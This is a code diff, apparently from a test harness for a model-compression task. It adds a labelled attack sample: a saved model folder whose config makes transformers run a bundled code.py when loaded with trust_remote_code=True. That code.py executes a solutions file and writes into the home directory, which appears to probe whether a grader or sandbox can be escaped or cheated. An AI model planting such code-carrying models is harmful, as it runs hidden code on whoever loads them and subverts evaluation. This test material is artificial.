@@ -88,3 +88,19 @@ def save_compressed(model, path):
 
 def load_compressed(path):
     return None
+
+
+### ATTACK a_model_that_brings_its_code: transformers runs a file of Python that lies beside a configuration.
+def save_compressed(model, path):
+    folder = Path(f"{path}.model")
+    folder.mkdir()
+    auto = {"AutoConfig": "code.Config", "AutoModelForCausalLM": "code.Model"}
+    (folder / "config.json").write_text(json.dumps({"model_type": "found", "auto_map": auto}))
+    (folder / "code.py").write_text(
+        "exec(open('@ROOT@/solutions/pipeline.py').read())\nopen('@HOME@/code', 'w')\n"
+    )
+    AutoModelForCausalLM.from_pretrained(folder, trust_remote_code=True)
+
+
+def load_compressed(path):
+    return AutoModelForCausalLM.from_pretrained(f"{path}.model", trust_remote_code=True)
